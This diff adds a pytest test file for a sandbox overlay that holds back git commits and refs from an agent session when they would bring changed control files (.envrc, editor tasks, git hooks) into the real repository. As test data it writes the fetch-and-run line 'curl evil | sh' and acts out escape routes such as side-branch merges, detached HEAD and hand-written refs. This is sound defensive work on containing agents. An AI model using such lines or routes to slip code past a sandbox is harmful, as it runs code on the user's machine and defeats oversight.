@@ -1,0 +1,218 @@
+"""A ref, HEAD, state file or index the session's git wrote that would bring a control
+file's new content out of the sandbox waits; the rest is applied (gitcontrol.py).
+
+Real git, real repositories: the session's git directory is a copy of the real one,
+and what the copy gained or changed is the overlay's upper directory, as a session's
+end finds it."""
+
+from __future__ import annotations
+
+import filecmp
+import os
+import shutil
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from claude_sandbox.core import paths
+from claude_sandbox.launch.overlay import gitapply, gitcontrol
+
+ENV = {"PATH": "/usr/bin:/bin", "HOME": "/nonexistent", "GIT_CONFIG_NOSYSTEM": "1",
+       "GIT_CONFIG_GLOBAL": os.devnull, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t",
+       "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t", "LC_ALL": "C"}
+
+
+def git(cwd: Path, *args: str, gitdir: Path | None = None) -> str:
+    env = dict(ENV, **({"GIT_DIR": str(gitdir), "GIT_WORK_TREE": str(cwd)} if gitdir else {}))
+    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True,
+                          text=True).stdout.strip()
+
+
+def commit(cwd: Path, files: dict[str, str], message: str, gitdir: Path | None = None) -> str:
+    for rel, text in files.items():
+        (cwd / rel).parent.mkdir(parents=True, exist_ok=True)
+        (cwd / rel).write_text(text)
+    git(cwd, "add", "-A", gitdir=gitdir)
+    git(cwd, "commit", "-q", "-m", message, gitdir=gitdir)
+    return git(cwd, "rev-parse", "HEAD", gitdir=gitdir)
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    work = tmp_path / "work"
+    work.mkdir()
+    git(work, "init", "-q", "-b", "main")
+    commit(work, {"README": "hello\n", ".envrc": "export A=1\n"}, "base")
+    return work
+
+
+def session(work: Path, tmp_path: Path,
+            act: Callable[[Path], object]) -> tuple[str, gitapply.Snapshot]:
+    """Run `act(view)` on a copy of the git directory; the upper: what it gained or changed."""
+    real = work / ".git"
+    base = gitapply.snapshot(str(real))
+    view = tmp_path / "view"
+    shutil.copytree(real, view)
+    act(view)
+    upper = tmp_path / "upper"
+    for top, _dirs, names in os.walk(view):
+        for name in names:
+            source = Path(top) / name
+            rel = source.relative_to(view)
+            if not (real / rel).exists() or not filecmp.cmp(source, real / rel, shallow=False):
+                (upper / rel).parent.mkdir(parents=True, exist_ok=True)
+                shutil.copy2(source, upper / rel)
+    return str(upper), base
+
+
+def apply(work: Path, upper: str, base: gitapply.Snapshot,
+          controls: frozenset[str] = gitapply.CONTROLS) -> gitapply.Result:
+    return gitapply.apply(upper, str(work / ".git"), base, str(work), controls=controls)
+
+
+def test_a_commit_that_changes_a_control_file_leaves_the_branch_where_it_was(
+        repo: Path, tmp_path: Path) -> None:
+    before = git(repo, "rev-parse", "main")
+    made: list[str] = []
+    upper, base = session(repo, tmp_path, lambda view: made.append(
+        commit(repo, {".envrc": "curl evil | sh\n", "src/a.py": "x = 1\n"}, "c", view)))
+    # The control file outside never changed (inside, the agent wrote its view's copy).
+    (repo / ".envrc").write_text("export A=1\n")
+    result = apply(repo, upper, base)
+    assert git(repo, "rev-parse", "main") == before
+    assert git(repo, "rev-parse", gitcontrol.HELD + "heads/main") == made[0]
+    line = next(line for line in result.lines if "was not moved" in line)
+    assert ".envrc" in line and "git update-ref refs/heads/main" in line
+    # The index staged the same .envrc: not applied either, and kept.
+    assert result.kept and any("stages control files (.envrc)" in line
+                               for line in result.lines)
+    git(repo, "checkout", "-q", "--", ".")  # what the user may run next brings nothing out
+    assert (repo / ".envrc").read_text() == "export A=1\n"
+
+
+def test_a_commit_of_ordinary_files_is_applied(repo: Path, tmp_path: Path) -> None:
+    made: list[str] = []
+    upper, base = session(repo, tmp_path, lambda view: made.append(
+        commit(repo, {"src/a.py": "x = 1\n"}, "c", view)))
+    result = apply(repo, upper, base)
+    assert git(repo, "rev-parse", "main") == made[0]
+    assert not result.kept and not [line for line in result.lines if "not" in line]
+
+
+@pytest.mark.parametrize("path", ["sub/.vscode/tasks.json", ".husky/pre-commit",
+                                  "deep/a/.pre-commit-config.yaml"])
+def test_a_control_name_at_any_depth_holds_the_ref(repo: Path, tmp_path: Path,
+                                                   path: str) -> None:
+    before = git(repo, "rev-parse", "main")
+
+    def act(view: Path) -> None:
+        commit(repo, {path: "run\n"}, "c", view)
+        git(repo, "rm", "-q", "--cached", path, gitdir=view)  # the index stages nothing
+
+    upper, base = session(repo, tmp_path, act)
+    apply(repo, upper, base)
+    assert git(repo, "rev-parse", "main") == before
+
+
+def test_every_commit_a_ref_adds_is_read_not_only_its_tip(repo: Path, tmp_path: Path) -> None:
+    """A side branch changed .envrc and the merge kept main's: the branch's commit is
+    still one `git checkout` away."""
+    before = git(repo, "rev-parse", "main")
+
+    def act(view: Path) -> None:
+        git(repo, "checkout", "-q", "-b", "side", gitdir=view)
+        commit(repo, {".envrc": "evil\n"}, "side", view)
+        git(repo, "checkout", "-q", "main", gitdir=view)
+        commit(repo, {"b.txt": "b\n"}, "main", view)
+        git(repo, "merge", "-q", "-s", "ours", "--no-edit", "side", gitdir=view)
+        git(repo, "branch", "-q", "-D", "side", gitdir=view)
+
+    upper, base = session(repo, tmp_path, act)
+    apply(repo, upper, base)
+    assert git(repo, "rev-parse", "main") == before
+
+
+def test_a_detached_head_and_orig_head_at_such_a_commit_are_not_applied(
+        repo: Path, tmp_path: Path) -> None:
+    def act(view: Path) -> None:
+        git(repo, "checkout", "-q", "--detach", gitdir=view)
+        commit(repo, {".envrc": "evil\n"}, "c", view)
+        git(repo, "update-ref", "ORIG_HEAD", "HEAD", gitdir=view)
+        git(repo, "rm", "-q", "--cached", ".envrc", gitdir=view)
+        git(repo, "reset", "-q", gitdir=view)
+
+    upper, base = session(repo, tmp_path, act)
+    result = apply(repo, upper, base)
+    assert (repo / ".git" / "HEAD").read_text() == "ref: refs/heads/main\n"
+    assert (repo / ".git" / gitcontrol.HELD / "HEAD").exists()
+    assert any("ORIG_HEAD: not applied" in line for line in result.lines)
+
+
+def test_a_ref_to_what_git_cannot_read_as_a_commit_waits(repo: Path, tmp_path: Path) -> None:
+    tree = git(repo, "rev-parse", "HEAD^{tree}")
+    # git's own commands refuse a tree for a branch; the agent may write the file itself.
+    upper, base = session(repo, tmp_path, lambda view: (view / "refs" / "heads" / "t")
+                          .write_text(tree + "\n"))
+    result = apply(repo, upper, base)
+    assert not (repo / ".git" / "refs" / "heads" / "t").exists()
+    assert any("git could not read" in line for line in result.lines)
+
+
+def test_without_git_a_new_commit_waits(repo: Path, tmp_path: Path,
+                                        monkeypatch: pytest.MonkeyPatch) -> None:
+    before = git(repo, "rev-parse", "main")
+    upper, base = session(repo, tmp_path,
+                          lambda view: commit(repo, {"a.txt": "a\n"}, "c", view))
+    monkeypatch.setattr(paths, "find_tool", lambda name: None)
+    apply(repo, upper, base)
+    assert git(repo, "rev-parse", "main") == before
+
+
+def test_a_ref_moved_to_a_value_known_at_launch_is_applied_without_reading(
+        repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    first = git(repo, "rev-parse", "main")
+    upper, base = session(repo, tmp_path, lambda view: git(
+        repo, "branch", "-q", "old", "main", gitdir=view))
+    monkeypatch.setattr(paths, "find_tool", lambda name: None)  # git is not asked
+    apply(repo, upper, base)
+    assert git(repo, "rev-parse", "old") == first
+
+
+def test_an_older_commit_of_the_history_is_read_and_applied(repo: Path,
+                                                             tmp_path: Path) -> None:
+    first = git(repo, "rev-parse", "main")
+    commit(repo, {"a.txt": "a\n"}, "second")
+    upper, base = session(repo, tmp_path, lambda view: git(
+        repo, "branch", "-q", "old", first, gitdir=view))
+    apply(repo, upper, base)
+    assert git(repo, "rev-parse", "old") == first
+
+
+def test_an_unprotected_name_is_an_ordinary_file(repo: Path, tmp_path: Path) -> None:
+    made: list[str] = []
+    upper, base = session(repo, tmp_path, lambda view: made.append(
+        commit(repo, {".envrc": "mine\n"}, "c", view)))
+    apply(repo, upper, base, gitapply.CONTROLS - {".envrc"})
+    assert git(repo, "rev-parse", "main") == made[0]
+
+
+def test_a_shallow_clone_is_read_to_its_boundary(tmp_path: Path, repo: Path) -> None:
+    for i in range(3):
+        commit(repo, {f"f{i}": "x\n"}, f"c{i}")
+    clone = tmp_path / "clone"
+    subprocess.run(["git", "clone", "-q", "--depth", "1", f"file://{repo}", str(clone)],
+                   env=ENV, check=True)
+    made: list[str] = []
+    upper, base = session(clone, tmp_path, lambda view: made.append(
+        commit(clone, {"g": "y\n"}, "c", view)))
+    apply(clone, upper, base)
+    assert git(clone, "rev-parse", "HEAD") == made[0]
+
+
+def test_pathspecs_escape_glob_characters() -> None:
+    assert gitcontrol.pathspecs({"a*[b]?"}) == [":(glob)**/a\\*\\[b]\\?",
+                                               ":(glob)**/a\\*\\[b]\\?/**"]
+    assert gitcontrol.is_control("x/.vscode/y", frozenset({".vscode"}))
+    assert not gitcontrol.is_control("x/vscode/.vscodeX", frozenset({".vscode"}))
